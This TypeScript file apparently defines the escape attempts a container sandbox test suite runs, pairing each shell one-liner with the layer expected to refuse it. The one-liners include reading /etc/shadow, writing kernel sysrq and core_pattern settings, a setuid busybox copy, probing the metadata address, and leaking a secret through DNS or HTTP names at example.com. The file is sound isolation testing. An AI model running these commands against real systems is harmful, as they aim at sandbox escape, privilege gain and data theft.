// What a hostile command tries, as data: a script that succeeds only where it gets what it must not have, and who is to stop it.

export type Backend = "strict" | "packages" | "bwrap" | "runsc" | "open";
/** Those that every machine with an engine and bubblewrap has. */
export const BACKENDS = ["strict", "packages", "bwrap"] as const satisfies readonly Backend[];
export type Everywhere = (typeof BACKENDS)[number];

export interface Attempt {
  readonly what: string;
  /** For a shell; ends with 0 where it got through. HOST is an address of the host, PORT one that listens there, OTHER another container's. */
  readonly script: string;
  /** What the layer says when it refuses: a script that ended for want of a program was not stopped by anybody. */
  readonly says: RegExp;
  readonly layer: string | Readonly<Partial<Record<Backend, string>>>;
  /** Backends that allow it by design. */
  readonly allowed?: readonly Backend[];
}

const READ_ONLY = /Read-only file system/;
/** Some refuse by mount, some by owner. */
const NOT_WRITABLE = /Read-only file system|Permission denied|nonexistent directory|No such file/;
const DENIED = /Permission denied|can't open/;
const NOT_PERMITTED = /Operation not permitted|Permission denied/;
const NO_WAY = /Network is unreachable|Connection refused|timed out|No route|can't connect|Network unreachable/;
const MOUNT = "read-only mount";
const ROOT = "read-only root";
const NETWORK = "network namespace of its own";
const QUIET = "PID 1 is not dumpable";
/** A script that tells by itself. */
const NOTHING = /^$/;

const each = (engine: string, bwrap: string): Attempt["layer"] => ({ strict: engine, packages: engine, runsc: engine, bwrap });

export const ATTEMPTS: readonly Attempt[] = [
  { what: "write to the root file system", script: "touch /new", says: READ_ONLY, layer: ROOT, allowed: ["packages"] },
  { what: "write over a program", script: "echo x >/bin/busybox", says: /Read-only|Permission|busy/, layer: ROOT, allowed: ["packages"] },
  { what: "add a launcher", script: "echo x >/tools/bin/mine", says: READ_ONLY, layer: MOUNT },
  { what: "replace the guest", script: "mv /beige/tool-client /beige/y || rm /beige/tool-client", says: READ_ONLY, layer: MOUNT },
  { what: "write over the guest", script: "echo x >/beige/tool-client", says: /Read-only|busy|Permission/, layer: MOUNT },
  { what: "plant a socket of its own", script: "touch /beige/gateway.sock || ln -s /x /beige/z", says: READ_ONLY, layer: MOUNT },
  {
    what: "mount by a program",
    script: "busybox mount -t tmpfs none /tmp || busybox mount --bind /workspace /beige",
    says: /not permitted|permission denied|must be superuser/i,
    layer: "system call filter",
  },
  {
    what: "become another user",
    script: "busybox su -c id || busybox su root -c id",
    says: /must be suid|can't set|not permitted|incorrect|unknown user/,
    layer: "no capability, no setuid program",
    allowed: ["packages"],
  },
  {
    what: "gain an id by a setuid copy",
    script: "cp /bin/busybox /tmp/busybox && chmod 4755 /tmp/busybox && [ $(/tmp/busybox id -u) != $(id -u) ]",
    says: NOTHING,
    layer: "no new privileges",
  },
  {
    what: "find a setuid program",
    script: "find / -xdev -perm -4000 2>/dev/null | grep .",
    says: NOTHING,
    layer: "image, no new privileges",
    allowed: ["packages"],
  },
  { what: "read the memory of PID 1", script: "cat /proc/1/mem", says: DENIED, layer: QUIET },
  { what: "read the environment of PID 1", script: "cat /proc/1/environ", says: DENIED, layer: QUIET },
  {
    what: "open the carrier of PID 1",
    script: "readlink /proc/1/fd/0 || cat /proc/1/fd/0 || echo x >/proc/1/fd/1",
    says: DENIED,
    layer: QUIET,
  },
  {
    what: "open the frames of its keeper",
    script: "readlink /proc/$PPID/fd/0 || echo x >/proc/$PPID/fd/1",
    says: DENIED,
    layer: "keeper is not dumpable",
  },
  {
    what: "kill or stop PID 1",
    script: "kill -9 1; kill -TERM 1; kill -STOP 1; kill -INT 1; kill -HUP 1; sleep 0.2; ! kill -0 1",
    says: NOTHING,
    layer: "PID 1 hears no signal from inside",
  },
  {
    what: "change the kernel's settings",
    script: "echo 1 >/proc/sys/kernel/panic || echo x >/proc/sys/kernel/core_pattern",
    says: NOT_WRITABLE,
    layer: "read-only /proc",
  },
  { what: "ask for a reboot by sysrq", script: "echo b >/proc/sysrq-trigger", says: NOT_WRITABLE, layer: "read-only /proc" },
  {
    what: "name a helper of the kernel in /sys",
    script: "echo /workspace/x >/sys/kernel/uevent_helper || echo x >/sys/power/state",
    says: NOT_WRITABLE,
    layer: each("read-only /sys", "no /sys"),
  },
  {
    what: "leave its control group",
    script:
      "mkdir /sys/fs/cgroup/memory/x || echo 1 >/sys/fs/cgroup/memory/memory.limit_in_bytes || echo 1 >/sys/fs/cgroup/pids/cgroup.procs",
    says: /Read-only|Permission|No such file|nonexistent/,
    layer: each("read-only /sys", "no /sys but for a count, read-only"),
  },
  { what: "raise its descriptors", script: "ulimit -n 100000", says: /not permitted|error setting limit/i, layer: "no capability" },
  {
    what: "hide from the killer of processes",
    script: "echo -900 >/proc/self/oom_score_adj",
    says: /Permission denied|not permitted/,
    layer: "no capability",
  },
  { what: "make a core file", script: "test $(ulimit -c) != 0", says: NOTHING, layer: "limits" },
  {
    what: "set the clock",
    script: "date -s 2000-01-01; [ $(date +%Y) = 2000 ]",
    says: /can't set date|not permitted/,
    layer: "system call filter",
  },
  { what: "see processes of the host", script: "grep -ls -e dockerd -e node /proc/[0-9]*/comm", says: NOTHING, layer: "process namespace" },
  {
    what: "find the engine",
    script: "ls /var/run/docker.sock /run/docker.sock /run/containerd",
    says: /No such file/,
    layer: "mount namespace",
  },
  {
    what: "find a disk or the memory of the host",
    script: "ls /dev | grep -E '^(sd|vd|nvme|xvd|mem|kmsg|disk)' || head -c 1 /dev/mem || head -c 1 /proc/kcore | grep .",
    says: /^$|No such file|Permission/,
    layer: "own /dev, masked /proc",
  },
  {
    what: "read secrets of the host",
    script: "cat /etc/shadow | grep -q '^root:[$]' || ls /work /home/*",
    says: /No such file|Permission/,
    layer: "mount namespace",
  },
  {
    what: "use another interface than loopback",
    script: "ls /sys/class/net 2>/dev/null | grep -v '^lo$' || grep -v -e ' *lo:' -e '|' /proc/net/dev",
    says: NOTHING,
    layer: NETWORK,
  },
  {
    what: "add an interface or a route",
    script: "ip link add x type dummy || ip addr add 10.1.1.1/8 dev lo || ip route add default dev lo",
    says: NOT_PERMITTED,
    layer: "no capability",
  },
  { what: "reach a port of the host by its address", script: "nc -w 2 HOST PORT </dev/null", says: NO_WAY, layer: NETWORK },
  { what: "reach a port of the host's loopback", script: "nc -w 2 127.0.0.1 PORT </dev/null", says: NO_WAY, layer: "loopback of its own" },
  { what: "reach the host's loopback by version 6", script: "nc -w 2 ::1 PORT </dev/null", says: /./, layer: "loopback of its own" },
  { what: "reach a port of the bridge's gateway", script: "nc -w 2 BRIDGE PORT </dev/null", says: NO_WAY, layer: NETWORK },
  { what: "reach another container", script: "nc -w 2 OTHER 7777 </dev/null | grep secret-of-the-other", says: NO_WAY, layer: NETWORK },
  { what: "reach the metadata address", script: "nc -w 2 169.254.169.254 80 </dev/null", says: NO_WAY, layer: NETWORK },
  {
    what: "send a datagram out",
    script: "probe datagram HOST PORT || probe datagram BRIDGE PORT",
    says: NO_WAY,
    layer: NETWORK,
  },
  {
    what: "reach a nameless socket of the host",
    script: "probe say @beige-escape-PORT </dev/null",
    says: NO_WAY,
    layer: NETWORK,
  },
  {
    what: "ask a name server of the world",
    script: "nslookup leak.example.com 8.8.8.8",
    says: /unreachable|can't connect|no servers|timed out/i,
    layer: NETWORK,
  },
  {
    // That it may listen on its own loopback (what a dev server needs) says nothing about ways out: where it may not, this fails too (P123).
    what: "turn leave to listen into a way out",
    script:
      "(echo mine | nc -l -p 8099 &) ; sleep 0.5; nc -w 2 127.0.0.1 8099 </dev/null | grep -q mine || exit 0; " +
      "nc -w 2 HOST PORT </dev/null || nc -w 2 BRIDGE PORT </dev/null || nc -w 2 OTHER 7777 </dev/null | grep secret-of-the-other",
    says: NO_WAY,
    layer: NETWORK,
  },
  {
    // P121, with the next.
    what: "carry words out in names",
    script: "nslookup secret-word.example.com || ping -c 1 -W 1 secret-word.example.com || wget -T 2 -qO- http://secret-word.example.com",
    says: /bad address|can't resolve|refused|no servers|unreachable|can't connect|timed out/i,
    layer: "no resolver, network namespace",
  },
  {
    what: "learn the host's name servers",
    script: "grep -vE '^(nameserver 127.0.0.1|search \\.|options .*|)$' /etc/resolv.conf",
    says: /^$|No such file/,
    layer: "own resolv.conf",
  },
];

/** What gVisor does not refuse, and why that leads nowhere: its processes are not hidden from each other. */
export const RUNSC_LETS: Readonly<Record<string, string>> = {
  "read the environment of PID 1": "it holds no more than that of every command",
  "open the carrier of PID 1": "the gateway trusts no supervisor: it can lie of itself only",
  "open the frames of its keeper": "the gateway trusts no supervisor: it can lie of itself only",
  "hide from the killer of processes": "that is the sandbox's own kernel: the group's limit holds",
};
